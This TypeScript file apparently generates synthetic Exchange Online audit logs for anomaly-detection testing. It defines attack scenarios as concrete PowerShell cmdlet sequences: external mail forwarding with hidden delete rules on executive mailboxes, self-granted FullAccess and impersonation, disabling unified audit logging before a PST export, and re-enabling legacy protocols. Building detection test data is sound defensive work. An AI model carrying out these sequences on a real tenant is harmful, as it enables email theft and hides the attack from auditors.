// The attacks injected into every log (ANOMALIES) and, with
// `insightAttacks`, the ones built from common steps (INSIGHT_ANOMALIES):
// who, when, from where, which commands, and the description that goes to
// the .anomalies.json sidecar.

import { AUTOMATION, CEO, CFO, COMPLIANCE, DOMAIN, HELPDESK, HR_SYNC, TENANT } from './directory';
import type { GenOptions } from './options';
import { p, type SessionGen } from './session';

export interface AnomalySpec {
  id: string;
  actor: string;
  ip: string;
  /** Position in the span, 0 = oldest, 1 = newest. */
  at: number;
  /** UTC hour of day the session starts at. */
  hour: number;
  what: string;
  run: (g: SessionGen) => void;
}

const ANOMALIES: readonly AnomalySpec[] = [
  {
    id: 'fullaccess-then-forward-rule',
    actor: HELPDESK,
    ip: '185.220.101.47',
    at: 0.83,
    hour: 2,
    what: "FullAccess granted on the CEO's mailbox, then straight away an inbox rule on it that forwards to an external address and deletes the copy (Add-MailboxPermission -> New-InboxRule -ForwardTo), at 02:00 UTC from an IP never seen before.",
    run: (g) => {
      g.step('Add-MailboxPermission', [p('Identity', CEO), p('User', HELPDESK), p('AccessRights', 'FullAccess'),
        p('InheritanceType', 'All'), p('AutoMapping', 'False')]);
      g.step('New-InboxRule', [p('Mailbox', CEO), p('Name', '.'), p('ForwardTo', 'exec.archive@protonmail.com'),
        p('DeleteMessage', 'True'), p('StopProcessingRules', 'True')], 20);
      g.step('Get-InboxRule', [p('Mailbox', CEO)], 10);
    },
  },
  {
    id: 'external-smtp-forwarding',
    actor: `it.ops@${TENANT}`,
    ip: '52.229.51.154',
    at: 0.61,
    hour: 15,
    what: "Set-Mailbox on the CFO's mailbox with DeliverToMailboxAndForward True and ForwardingSmtpAddress to a gmail.com address: values never seen for those params (normally False / empty).",
    run: (g) => {
      g.step('Get-Mailbox', [p('Identity', CFO)]);
      g.step('Set-Mailbox', [p('Identity', CFO), p('ForwardingSmtpAddress', 'smtp:marcus.reyes.payments@gmail.com'),
        p('DeliverToMailboxAndForward', 'True')], 12);
    },
  },
  {
    id: 'role-grant-then-audit-off',
    actor: `admin@${TENANT}`,
    ip: '203.0.113.45',
    at: 0.42,
    hour: 23,
    what: 'New-ManagementRoleAssignment of "Mailbox Import Export" to itself, then Set-AdminAuditLogConfig -UnifiedAuditLogIngestionEnabled False, then a PST export of the CFO mailbox: rare transitions and a rare value.',
    run: (g) => {
      g.step('New-ManagementRoleAssignment', [p('Role', 'Mailbox Import Export'), p('User', `admin@${TENANT}`)]);
      g.step('Set-AdminAuditLogConfig', [p('UnifiedAuditLogIngestionEnabled', 'False')], 30);
      g.step('New-MailboxExportRequest', [p('Mailbox', CFO), p('FilePath', '\\\\10.20.4.17\\pst$\\mreyes.pst')], 25);
    },
  },
  {
    id: 'service-account-impersonation',
    actor: `svc-backup@${TENANT}`,
    ip: '',
    at: 0.27,
    hour: 4,
    what: 'The read-only backup service account grants itself ApplicationImpersonation and FullAccess on three executive mailboxes (Get-Mailbox -> New-ManagementRoleAssignment -> Add-MailboxPermission x3).',
    run: (g) => {
      g.step('Get-Mailbox', [p('ResultSize', 'Unlimited'), p('ErrorAction', 'SilentlyContinue')]);
      g.step('New-ManagementRoleAssignment', [p('Role', 'ApplicationImpersonation'), p('User', `svc-backup@${TENANT}`)], 3);
      for (const box of [CEO, CFO, `legal-intake@${DOMAIN}`]) {
        g.step('Add-MailboxPermission', [p('Identity', box), p('User', `svc-backup@${TENANT}`), p('AccessRights', 'FullAccess'),
          p('InheritanceType', 'All'), p('AutoMapping', 'False')], 2);
      }
    },
  },
  {
    id: 'legacy-protocols-reenabled',
    actor: `j.castillo-adm@${TENANT}`,
    ip: '198.51.100.17',
    at: 0.12,
    hour: 3,
    what: 'Set-CASMailbox re-enabling IMAP, POP and SMTP AUTH (values True/False opposite to the usual hardening) on three mailboxes, then Set-TransportConfig -SmtpClientAuthenticationDisabled False, at night.',
    run: (g) => {
      for (const box of [CFO, `accounts-payable@${DOMAIN}`, CEO]) {
        g.step('Set-CASMailbox', [p('Identity', box), p('PopEnabled', 'True'), p('ImapEnabled', 'True'),
          p('SmtpClientAuthenticationDisabled', 'False')], 4);
      }
      g.step('Set-TransportConfig', [p('SmtpClientAuthenticationDisabled', 'False')], 15);
    },
  },
];


/**
 * Attacks built from common steps (`insightAttacks`): each command and
 * transition is frequent in the tenant, so only the account doing it, or one
 * value among common ones, gives them away.
 */
const INSIGHT_ANOMALIES: readonly AnomalySpec[] = [
  {
    id: 'fullaccess-by-read-only-account',
    actor: COMPLIANCE,
    ip: '40.114.117.193',
    at: 0.7,
    hour: 16,
    what: "A read-only compliance account, which only ever ran Get-* look-ups, grants itself FullAccess on the CEO's mailbox the way help desk staff do (Get-MailboxPermission -> Add-MailboxPermission), in business hours from its usual IP.",
    run: (g) => {
      g.step('Get-MailboxPermission', [p('Identity', CEO)]);
      g.step('Add-MailboxPermission', [p('Identity', CEO), p('User', COMPLIANCE), p('AccessRights', 'FullAccess'),
        p('InheritanceType', 'All'), p('AutoMapping', 'True')], 10);
    },
  },
  {
    id: 'fullaccess-by-automation-account',
    actor: AUTOMATION,
    ip: '20.42.73.12',
    at: 0.52,
    hour: 14,
    what: "The provisioning automation account, which never granted mailbox permissions, grants FullAccess and SendAs on the CFO's mailbox (Add-MailboxPermission -> Add-RecipientPermission, as in the delegation workflow).",
    run: (g) => {
      g.step('Add-MailboxPermission', [p('Identity', CFO), p('User', AUTOMATION), p('AccessRights', 'FullAccess'),
        p('InheritanceType', 'All'), p('AutoMapping', 'True')]);
      g.step('Add-RecipientPermission', [p('Identity', CFO), p('Trustee', AUTOMATION), p('AccessRights', 'SendAs'),
        p('Confirm', 'False')], 8);
    },
  },
  {
    id: 'fullaccess-by-hr-sync',
    actor: HR_SYNC,
    ip: '52.229.51.154',
    at: 0.33,
    hour: 9,
    what: 'The HR sync service account, between two of its usual Set-User updates, grants FullAccess on the legal intake mailbox to itself: a command common in the tenant, never run by this account.',
    run: (g) => {
      g.step('Set-User', [p('Identity', CFO), p('Title', 'Director'), p('Department', 'Finance'), p('ErrorAction', 'Stop')]);
      g.step('Add-MailboxPermission', [p('Identity', `legal-intake@${DOMAIN}`), p('User', HR_SYNC), p('AccessRights', 'FullAccess'),
        p('InheritanceType', 'All'), p('AutoMapping', 'False')], 2);
      g.step('Set-User', [p('Identity', CEO), p('Title', 'Director'), p('Department', 'Legal'), p('ErrorAction', 'Stop')], 2);
    },
  },
  {
    id: 'smtp-auth-reenabled-once',
    actor: `m.okafor-adm@${TENANT}`,
    ip: '20.42.73.12',
    at: 0.2,
    hour: 17,
    what: 'A routine hardening run (Get-CASMailbox, Set-CASMailbox x4) where one Set-CASMailbox sets SmtpClientAuthenticationDisabled False on the CFO mailbox: one rare value among common ones.',
    run: (g) => {
      g.step('Get-CASMailbox', [p('Identity', CFO)]);
      for (const [box, smtpOff] of [[CFO, 'False'], [`accounts-payable@${DOMAIN}`, 'True'], [`helpdesk@${DOMAIN}`, 'True'], [`info@${DOMAIN}`, 'True']]) {
        g.step('Set-CASMailbox', [p('Identity', box), p('PopEnabled', 'False'), p('ImapEnabled', 'False'),
          p('SmtpClientAuthenticationDisabled', smtpOff)], 4);
      }
    },
  },
  {
    id: 'forwarding-during-offboarding',
    actor: `s.tanaka-adm@${TENANT}`,
    ip: '[2603:1036:302:4091::5]',
    at: 0.9,
    hour: 18,
    what: "An ordinary offboarding (Set-Mailbox Type Shared, Set-CASMailbox, Remove-DistributionGroupMember, Set-Mailbox) whose forwarding step sets ForwardingSmtpAddress to an external outlook.com address instead of clearing it: one rare value among common ones.",
    run: (g) => {
      const upn = `olga.petrov@${DOMAIN}`;
      g.step('Set-Mailbox', [p('Identity', upn), p('Type', 'Shared')]);
      g.step('Set-CASMailbox', [p('Identity', upn), p('ActiveSyncEnabled', 'False'), p('OWAEnabled', 'False'),
        p('PopEnabled', 'False'), p('ImapEnabled', 'False')], 6);
      g.step('Remove-DistributionGroupMember', [p('Identity', 'Finance Team'), p('Member', upn), p('Confirm', 'False')], 5);
      g.step('Set-Mailbox', [p('Identity', upn), p('ForwardingSmtpAddress', 'smtp:o.petrov.archive@outlook.com'),
        p('DeliverToMailboxAndForward', 'False')], 8);
      g.step('Set-Mailbox', [p('Identity', upn), p('HiddenFromAddressListsEnabled', 'True')], 6);
    },
  },
];

/** The anomalies injected with these options. */
export function anomalySpecs(opts: GenOptions): readonly AnomalySpec[] {
  return opts.insightAttacks ? [...ANOMALIES, ...INSIGHT_ANOMALIES] : ANOMALIES;
}
